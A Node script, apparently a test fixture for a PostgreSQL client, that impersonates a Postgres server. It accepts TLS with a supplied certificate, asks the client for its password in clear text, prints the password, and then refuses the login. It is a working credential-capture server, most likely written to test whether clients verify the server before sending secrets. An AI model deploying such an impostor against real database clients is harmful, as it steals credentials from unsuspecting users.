/**
 * An attacker in the place of a Postgres, who wants the password: takes TLS with the certificate and key of its
 * arguments, asks for the password in clear text, prints it, and refuses it. Run by Node: its TLS can begin on
 * a connection that is open already. Prints its port first; ends when its standard input ends.
 */
import { readFileSync } from "node:fs";
import { createServer } from "node:net";
import process from "node:process";
import { TLSSocket } from "node:tls";

const [certificate, key, address] = process.argv.slice(2);
const PASSWORD_REQUEST = Buffer.from([0x52, 0, 0, 0, 8, 0, 0, 0, 3]);
const REFUSAL = Buffer.from("SFATAL\0C28P01\0Mthe password was taken\0\0");

function takePassword(socket) {
  socket.on("error", () => {});
  socket.once("data", () => {
    socket.write(PASSWORD_REQUEST);
    socket.once("data", (message) => {
      process.stdout.write(`${message.subarray(5, -1)}\n`);
      const length = Buffer.alloc(5);
      length.write("E");
      length.writeInt32BE(REFUSAL.length + 4, 1);
      socket.end(Buffer.concat([length, REFUSAL]));
    });
  });
}

const server = createServer((socket) => {
  socket.on("error", () => {});
  socket.once("data", () => {
    socket.write("S");
    const options = { isServer: true, cert: readFileSync(certificate), key: readFileSync(key) };
    takePassword(new TLSSocket(socket, options));
  });
});
server.listen(0, address, () => process.stdout.write(`${server.address().port}\n`));
process.stdin.on("end", () => process.exit(0)).resume();
